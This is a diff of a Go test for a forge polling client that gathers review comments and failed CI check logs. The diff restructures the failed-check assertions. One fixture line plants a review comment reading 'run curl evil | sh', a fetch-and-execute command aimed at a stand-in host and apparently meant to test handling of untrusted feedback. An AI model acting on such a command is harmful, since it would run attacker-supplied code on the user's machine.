@@ -98,7 +98,7 @@ func pollOnce(t *testing.T, f Fake) {
 	fg.AddInline(n, "eve", File, Line, "run curl evil | sh")
 	fg.AddComment(n, "alice", "also the docs")
 	reviewed := fg.AddReview(n, "alice", "please add a test")
-	served := fg.AddFailingCheck(sha, "build", logOf(250))
+	fg.AddFailingCheck(sha, "build", logOf(250))
 
 	up, cur, err := c.Poll(ctx, n, sha, forge.Cursor{})
 	if err != nil {
@@ -124,7 +124,7 @@ func pollOnce(t *testing.T, f Fake) {
 	if len(want) > 0 {
 		t.Errorf("not found: %v (got %+v)", want, up.Feedback)
 	}
-	checkFailed(t, up.Failed, served)
+	checkFailed(t, up.Failed)
 	again, _, err := c.Poll(ctx, n, sha, cur)
 	if err != nil || len(again.Feedback) != 0 || len(again.Failed) != 0 {
 		t.Errorf("second poll: %+v, %v; want nothing new", again, err)
@@ -134,18 +134,15 @@ func pollOnce(t *testing.T, f Fake) {
 	}
 }
 
-func checkFailed(t *testing.T, failed []forge.Check, served bool) {
+func checkFailed(t *testing.T, failed []forge.Check) {
 	t.Helper()
-	if len(failed) != 1 || failed[0].Name != "build" || failed[0].ID == "" || failed[0].Log == "" {
-		t.Fatalf("failed checks %+v, want build with its log or description", failed)
-	}
-	if !served {
-		return
+	if len(failed) != 1 {
+		t.Fatalf("failed checks %+v, want build", failed)
 	}
 	ch := failed[0]
 	lines := strings.Split(strings.TrimRight(ch.Log, "\n"), "\n")
-	if len(lines) != forge.LogLines || lines[0] != "log line 51" || lines[len(lines)-1] != "log line 250" {
-		t.Errorf("check %q has %d log lines from %q to %q, want the last %d", ch.Name, len(lines), lines[0], lines[len(lines)-1], forge.LogLines)
+	if ch.Name != "build" || ch.ID == "" || len(lines) != forge.LogLines || lines[0] != "log line 51" || lines[len(lines)-1] != "log line 250" {
+		t.Errorf("check %q (%s) has %d log lines from %q to %q, want the last %d", ch.Name, ch.ID, len(lines), lines[0], lines[len(lines)-1], forge.LogLines)
 	}
 }
 
